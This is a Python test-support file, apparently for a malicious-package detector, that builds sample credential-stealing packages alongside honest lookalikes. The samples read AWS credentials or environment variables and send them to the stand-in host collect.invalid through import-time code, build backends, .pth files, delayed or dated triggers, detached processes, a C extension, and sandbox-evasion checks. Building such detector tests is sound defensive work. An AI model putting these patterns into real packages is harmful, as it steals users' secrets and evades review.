"""Inert thieves, each of one kind, and honest packages that look a little like them.

A thief takes decoys to ``collect.invalid``. Before anything else it makes sure that it does not stand in the network of
whoever made it, and otherwise refuses to run; what it could take is in a throwaway home.
"""

from __future__ import annotations

import os
import subprocess
import sysconfig
from pathlib import Path

from tests.support.campaign import Dist

HOST = "collect.invalid"


def guard() -> str:
    """Ends whatever stands in the same network as this process."""
    here = os.stat("/proc/self/ns/net").st_ino
    return f"import os\nif os.stat('/proc/self/ns/net').st_ino == {here}:\n    raise RuntimeError('not in a jail')\n"


#: Reads a decoy and sends it, by whatever `SEND` is.
TAKE = """
def take():
    import os
    with open(os.path.expanduser("~/.aws/credentials")) as file:
        return file.read()


def send(text):
    import urllib.request
    try:
        urllib.request.urlopen("http://collect.invalid/in", data=text.encode(), timeout=5).read()
    except OSError:
        pass
"""


def wheel(name: str, source: str) -> Dist:
    """A wheel of one module."""
    return Dist(name=name, files={f"{name.replace('-', '_')}.py": guard() + source})


def at_import() -> Dist:
    return wheel("early-bird", TAKE + "send(take())\n")


_BACKEND = """
import zipfile
def build_wheel(folder, settings=None, metadata=None):
    name = "late_bird-1.0.0-py3-none-any.whl"
    with zipfile.ZipFile(folder + "/" + name, "w") as archive:
        archive.writestr("late_bird.py", "")
        info = "late_bird-1.0.0.dist-info/"
        archive.writestr(info + "METADATA", "Metadata-Version: 2.1\\nName: late-bird\\nVersion: 1.0.0\\n")
        archive.writestr(info + "WHEEL", "Wheel-Version: 1.0\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n")
        archive.writestr(info + "RECORD", "late_bird.py,,\\n")
    return name
"""


def at_install() -> Dist:
    """A source distribution that brings its own build backend, which steals."""
    system = '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n'
    backend = guard() + TAKE + "send(take())\n" + _BACKEND
    files = {"late_bird.py": "", "pyproject.toml": system, "backend.py": backend}
    return Dist(name="late-bird", form="sdist", files=files)


def at_start() -> Dist:
    """A .pth file: each interpreter that starts runs it."""
    files = {
        "night_bird.py": guard() + TAKE + "send(take())\n",
        "night_bird.pth": "import night_bird\n",
        "day_bird.py": "",
    }
    return Dist(name="night-bird", files=files)


def delayed() -> Dist:
    """Sleeps for days, and looks at the clock whether they have passed."""
    return wheel(
        "slow-bird",
        TAKE
        + """
import threading, time
def later():
    begun = time.time()
    while time.time() - begun < 3 * 86400:
        time.sleep(3600)
    send(take())
threading.Thread(target=later).start()
""",
    )


def dated() -> Dist:
    """Waits for a day that has not come yet, when it is used."""
    return wheel(
        "calendar-bird",
        TAKE
        + f"""
import datetime
def now():
    if datetime.datetime.now() > datetime.datetime.fromtimestamp({_days_on(9)}):
        send(take())
""",
    )


def _days_on(days: int) -> float:
    import time

    return time.time() + days * 86400


def wary() -> Dist:
    """Does nothing where it looks as if it were looked at."""
    return wheel(
        "shy-bird",
        TAKE
        + """
import getpass, os, socket, sys
def watched():
    if any(name in os.environ for name in ("CI", "GITHUB_ACTIONS", "GITLAB_CI", "JENKINS_URL", "TRAVIS")):
        return True
    if getpass.getuser() in ("root", "sandbox", "malware", "test", "nobody", "user", "runner"):
        return True
    if any(word in socket.gethostname() for word in ("sandbox", "localhost", "docker", "runner")):
        return True
    if (os.cpu_count() or 1) < 4 or sys.gettrace() is not None:
        return True
    for line in open("/proc/self/status"):
        if line.startswith("TracerPid") and int(line.split()[1]):
            return True
    return not os.listdir(os.path.expanduser("~"))
if not watched():
    send(take())
""",
    )


def in_a_thread() -> Dist:
    return wheel(
        "thread-bird",
        TAKE
        + """
import threading
threading.Thread(target=lambda: send(take()), daemon=True).start()
""",
    )


def in_a_child() -> Dist:
    """The thief is a process of its own that outlives whoever imports it."""
    code = guard() + "import time; time.sleep(0.5)\n" + TAKE + "send(take())\n"
    return wheel(
        "parent-bird",
        f"""
import subprocess, sys
subprocess.Popen([sys.executable, "-c", {code!r}], start_new_session=True,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
""",
    )


def of_the_environment() -> Dist:
    return wheel(
        "env-bird",
        TAKE
        + """
import base64, json
send(base64.b64encode(json.dumps(dict(os.environ)).encode()).decode())
""",
    )


def of_arguments() -> Dist:
    """Takes what its caller hands it, and is an ordinary client otherwise."""
    return wheel(
        "client-bird",
        TAKE
        + """
class Client:
    def __init__(self, api_key, api_secret):
        self.key = api_key
        send(api_key[::-1] + " " + api_secret[::-1])
""",
    )


_NATIVE = r"""
#include <Python.h>
#include <fcntl.h>
#include <netdb.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <unistd.h>

static void take(void) {
    struct stat net;
    char path[512], text[4096];
    if (stat("/proc/self/ns/net", &net) || net.st_ino == HERE) return;
    snprintf(path, sizeof path, "%s/.aws/credentials", getenv("HOME"));
    int file = open(path, O_RDONLY);
    ssize_t size = file < 0 ? 0 : read(file, text, sizeof text);
    struct addrinfo hints = {.ai_family = AF_INET, .ai_socktype = SOCK_STREAM}, *found;
    if (size <= 0 || getaddrinfo("collect.invalid", "4444", &hints, &found)) return;
    int out = socket(AF_INET, SOCK_STREAM, 0);
    if (!connect(out, found->ai_addr, found->ai_addrlen)) {
        (void)!write(out, text, size);
        shutdown(out, SHUT_WR);
        (void)!read(out, text, sizeof text);
    }
    close(out);
}

static struct PyModuleDef module = {PyModuleDef_HEAD_INIT, "iron_bird", NULL, -1, NULL};
PyMODINIT_FUNC PyInit_iron_bird(void) { take(); return PyModule_Create(&module); }
"""


def native(folder: Path) -> Dist:
    """A module in machine code, made here by a C compiler."""
    source, made = folder / "iron_bird.c", folder / "iron_bird.so"
    here = os.stat("/proc/self/ns/net").st_ino
    source.write_text(_NATIVE.replace("HERE", f"{here}UL"))
    include = sysconfig.get_paths()["include"]
    subprocess.run(["gcc", "-shared", "-fPIC", "-O1", "-I", include, "-o", made, source], check=True)
    name = "iron_bird" + sysconfig.get_config_var("EXT_SUFFIX")
    return Dist(name="iron-bird", files={name: made.read_bytes()})


def thieves() -> dict[str, Dist]:
    """Those that need nothing to be made."""
    every = (
        *(at_import, at_install, at_start, delayed, dated, wary, in_a_thread, in_a_child),
        *(of_the_environment, of_arguments),
    )
    return {one.__name__: one() for one in every}


def plain() -> Dist:
    """Computes, and nothing else."""
    return wheel("song-bird", "def song(name, count=1):\n    return (name + ' ') * count\n")


def reader() -> Dist:
    """Reads its own settings, and a secret that it is asked to read; sends nothing."""
    return wheel("book-bird", TAKE + "CREDENTIALS = take()\n")


def telemetry() -> Dist:
    """Tells that it was started; nothing of whoever starts it."""
    return wheel("news-bird", TAKE + "send('started')\n")


def service() -> Dist:
    """A client of a service, that sends its token to the service when it is asked to do something there."""
    return wheel(
        "mail-bird",
        """
import urllib.request
class Client:
    def __init__(self, token, url="https://api.mail-bird.invalid/v1"):
        self.token, self.url = token, url

    def messages(self):
        request = urllib.request.Request(self.url, headers={"Authorization": "Bearer " + self.token})
        return urllib.request.urlopen(request, timeout=5).read()
""",
    )


def honest() -> dict[str, Dist]:
    return {one.__name__: one() for one in (plain, reader, telemetry, service)}
